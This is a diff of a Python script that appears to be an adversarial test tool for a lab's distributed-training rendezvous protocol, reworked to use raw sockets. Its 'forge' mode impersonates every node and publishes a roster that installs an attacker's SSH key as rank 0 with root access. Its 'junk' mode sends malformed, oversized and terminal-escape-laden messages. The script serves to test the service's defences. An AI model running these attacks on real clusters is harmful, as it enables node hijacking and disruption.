@@ -1,74 +1,99 @@
-"""What somebody on the network can do who reaches INIT_MASTER_PORT: run as a script on a host of the lab.
+"""What somebody on the network can do who reaches the port of a waiting cluster: run as a script on a host of
+the lab.
 
-python strangers.py forge HOST PORT KEY              rewrite the roster so that KEY is rank 0's, without end
-python strangers.py junk HOST PORT                   leave entries that no node of ours would write
+python strangers.py forge HOST PORT KEY              claim to be who makes the roster, and a node that is
+there python strangers.py junk HOST PORT                   send what no node of ours would send
 """
 
 from __future__ import annotations
 
-import re
+import os
+import socket
 import sys
 import time
+from contextlib import suppress
 from dataclasses import replace
-from datetime import timedelta
-from typing import Any
 
-from platform_launch.rendezvous import protocol
-from platform_launch.rendezvous.authentication import Seal
-from platform_launch.rendezvous.bare_torch import bare_torch
+from platform_launch.dist_launch.cluster import ClusterMember
+from platform_launch.dist_launch.roster import PURPOSE, WaitRoster
 from platform_launch.rendezvous.fingerprint import Fingerprint
-from platform_launch.rendezvous.messages import encode
-from platform_launch.rendezvous.protocol import Announcement, Join, NodeHeartbeat
+from platform_launch.rendezvous.messages import decode, encode
+from platform_launch.rendezvous.participant import hello_of
+from platform_launch.rendezvous.protocol import Join, Publish, Welcome
+
+NNODES = 2
 
 
 def main() -> None:
     what, host, port, *rest = sys.argv[1:]
-    torch = bare_torch()
-    store = torch.distributed.TCPStore(
-        host, int(port), None, False, timedelta(seconds=30), wait_for_workers=False
-    )
     if what == "forge":
-        forge(store, rest[0])
+        forge(host, int(port), rest[0])
     else:
-        junk(store)
+        junk(host, int(port))
 
 
-def forge(store: Any, key: str) -> None:
-    """Write over whatever node 0 writes, many times a second, and say each time that it was needed."""
+def connected(host: str, port: int, node: Fingerprint) -> socket.socket:
+    """Return a connection on which the first lines were exchanged."""
+    connection = socket.create_connection((host, port), 10)
+    hello = replace(hello_of(node, PURPOSE, None, ""), nonce=os.urandom(16).hex())
+    connection.sendall(encode(hello) + b"\n")
+    decode(connection.makefile("rb").readline().rstrip(), Welcome)
+    return connection
+
+
+def member(rank: int, key: str) -> ClusterMember:
+    return ClusterMember(
+        rank=rank,
+        host="evil",
+        address="10.213.0.9",
+        ssh_port=22,
+        ssh_user="root",
+        host_key=key,
+        identity=f"evil {rank}",
+        python="/tmp/evil",
+        package="/tmp/evil",
+        folder="/tmp/evil",
+        public_key=key,
+    )
+
+
+def forge(host: str, port: int, key: str) -> None:
+    """Join as each rank, and publish a roster in which this key is rank 0's, without end."""
+    roster = WaitRoster(10**6, "now", (), (member(0, key), member(1, key)))
     count = 0
     while True:
-        state = store.get(protocol.STATE).decode()
-        forged = re.sub(r'"public_key":"ssh-[^"]*"', f'"public_key":"{key}"', state)
-        if forged != state:
-            forged = re.sub(r'"edition":\d+', lambda found: f'"edition":{int(found[0][10:]) + 1000}', forged)
-            store.set(protocol.STATE, forged)
-            count += 1
-            print(f"forged {count}", flush=True)
-        now = store.get(protocol.NOW).decode()
-        store.set(protocol.NOW, re.sub(r'"state":\d+', f'"state":{1000 + count}', now))
-        time.sleep(0.01)
+        for rank in range(NNODES):
+            node = Fingerprint(rank, NNODES, "evil", ("10.213.0.9",), f"evil {rank}", None)
+            with suppress(OSError), connected(host, port, node) as connection:
+                join = Join(node, os.urandom(8).hex(), 1, member(rank, key))
+                for message in (join, Publish(roster)):
+                    connection.sendall(b"- " + encode(message) + b"\n")
+                time.sleep(0.2)
+        count += 1
+        print(f"forged {count}", flush=True)
 
 
-def junk(store: Any) -> None:
-    found = Seal(None, "", "").open(protocol.ANNOUNCEMENT, store.get(protocol.ANNOUNCEMENT), Announcement)
-    seal = Seal(None, found.purpose, found.nonce)
-    node = Fingerprint(1, found.nnodes, "\x1b[2J\x1b]0;owned\x07stranger", ("10.0.0.9",), "me", None)
-    good = encode(Join(node, "session"))
-    entries = [
+def junk(host: str, port: int) -> None:
+    node = Fingerprint(1, NNODES, "\x1b[2J\x1b]0;owned\x07stranger", ("10.0.0.9",), "me", None)
+    good = encode(Join(node, "session", 1))
+    lines = [
         b"- " + good.replace(b'"node_rank":1', b'"node_rank":[]'),
         b"- " + b"[" * 50_000,
         b"- " + good[:-3] + b"x" * (1 << 20),
         b"- \x00\x01",
-        b"- " + encode(Join(replace(node, nnodes=7), "session")),
-        b"- " + encode(Join(replace(node, node_rank=-1), "session")),
-        b"- " + encode(Join(replace(node, node_rank=0, identity="another"), "session")),
+        b"- " + encode(Join(replace(node, nnodes=7), "session 2", 1)),
+        b"- " + encode(Join(replace(node, node_rank=-1), "session 3", 1)),
+        b"- " + encode(Join(replace(node, node_rank=0, identity="another"), "session 4", 1)),
     ]
-    for slot, entry in enumerate(entries, found.nnodes + 2):
-        store.set(f"join/{slot}", entry.decode())
-        key = f"heartbeat/{slot}"
-        store.set(key, seal.close(key, NodeHeartbeat("session", 1, 0)).decode())
-    for key in ("heartbeat/1", protocol.NOW, protocol.STATE, protocol.MEMBERS):
-        store.set(key, "- [[]]")
+    for line in lines:
+        with connected(host, port, node) as connection, suppress(OSError):
+            connection.sendall(line + b"\n")
+            connection.settimeout(10)
+            while connection.recv(4096):
+                pass
+    with socket.create_connection((host, port), 10) as connection, suppress(OSError):
+        connection.sendall(b"GET / HTTP/1.1\r\n\r\n")
+        connection.recv(1)
 
 
 main()
